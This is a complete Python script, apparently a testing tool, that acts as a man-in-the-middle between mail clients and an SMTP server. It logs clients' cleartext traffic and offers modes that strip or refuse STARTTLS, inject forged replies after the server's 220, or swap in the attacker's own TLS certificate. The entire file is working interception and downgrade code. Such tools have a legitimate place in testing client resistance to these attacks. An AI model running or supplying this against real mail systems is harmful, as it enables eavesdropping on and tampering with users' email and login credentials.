#!/usr/bin/env python3
"""Somebody on the wire between a client and a real mail server, each time with other intentions.

usage: middle.py FOLDER CERTIFICATE KEY UPSTREAM NAME=ADDRESS=MANNER ...

Whoever connects to ADDRESS gets to UPSTREAM. What the client says for all to read is kept in FOLDER/NAME/talk,
in the form of smtpd.py. Manners:

  pass    nothing is changed
  strip   STARTTLS is taken out of what the server offers
  refuse  STARTTLS does not reach the server: 454
  inject  replies are put behind the server's 220 to STARTTLS
  swap    TLS is spoken with CERTIFICATE, and the server is talked to in clear
"""
import os
import socket
import ssl
import sys
import threading

INJECTED = b"250-mx.attacker.test\r\n250 SIZE 1\r\n"


class Talk:
    def __init__(self, folder, client, upstream, manner, context):
        self.client, self.upstream = client, upstream
        self.manner, self.context = manner, context
        self.asked = False  # for TLS, and the answer is still to come
        self.blind = False  # the two have TLS between them
        os.makedirs(folder, exist_ok=True)
        self.talk = open(os.path.join(folder, "talk"), "a", encoding="utf-8", buffering=1)
        self.note("+")

    def note(self, text):
        self.talk.write(f"1 {text}\n")

    def start_tls(self):
        """True: the server is to hear of it."""
        if self.manner == "refuse":
            self.client.sendall(b"454 4.7.0 TLS not available due to temporary reason\r\n")
        elif self.manner == "swap":
            self.client.sendall(b"220 2.0.0 Ready to start TLS\r\n")
            self.client = self.context.wrap_socket(self.client, server_side=True)
            self.note(f"* {self.client.version()}")
        else:
            self.asked = True
        return self.asked

    def hear_client(self, line):
        self.note("C: " + line.decode("utf-8", "replace").rstrip("\r\n"))
        if line.strip().upper() != b"STARTTLS" or self.start_tls():
            self.server.sendall(line)

    def hear_server(self, line):
        if self.manner == "strip":
            line = line.replace(b"STARTTLS", b"XXXXXXXX")
        if self.asked and line.startswith(b"220 "):
            if self.manner == "inject":
                line += INJECTED
            self.blind = True
        self.client.sendall(line)

    def pump(self, from_client):
        """Line by line as long as it can be read, byte by byte afterwards."""
        left = b""
        to = lambda: self.server if from_client else self.client  # noqa: E731
        try:
            while got := (self.client if from_client else self.server).recv(1 << 16):
                left += got
                while not self.blind and b"\n" in left:
                    line, _, left = left.partition(b"\n")
                    (self.hear_client if from_client else self.hear_server)(line + b"\n")
                if self.blind and left:
                    to().sendall(left)
                    left = b""
            to().shutdown(socket.SHUT_WR)
        except OSError as error:
            self.note(f"- {error}")
            for end in (self.client, self.server):
                end.close()

    def run(self):
        try:
            self.server = socket.create_connection((self.upstream, 25))
        except OSError:
            self.client.close()
            return
        threading.Thread(target=self.pump, args=(False,), daemon=True).start()
        self.pump(True)


def listen(folder, context, upstream, address, manner):
    listener = socket.create_server((address, 25), backlog=64)

    def accept():
        while True:
            client, _ = listener.accept()
            talk = Talk(folder, client, upstream, manner, context)
            threading.Thread(target=talk.run, daemon=True).start()
    threading.Thread(target=accept, daemon=True).start()


def main():
    folder, certificate, key, upstream, *hosts = sys.argv[1:]
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(certificate, key)
    for host in hosts:
        name, address, manner = host.split("=")
        listen(os.path.join(folder, name), context, upstream, address, manner)
    print("ready", flush=True)
    threading.Event().wait()


main()
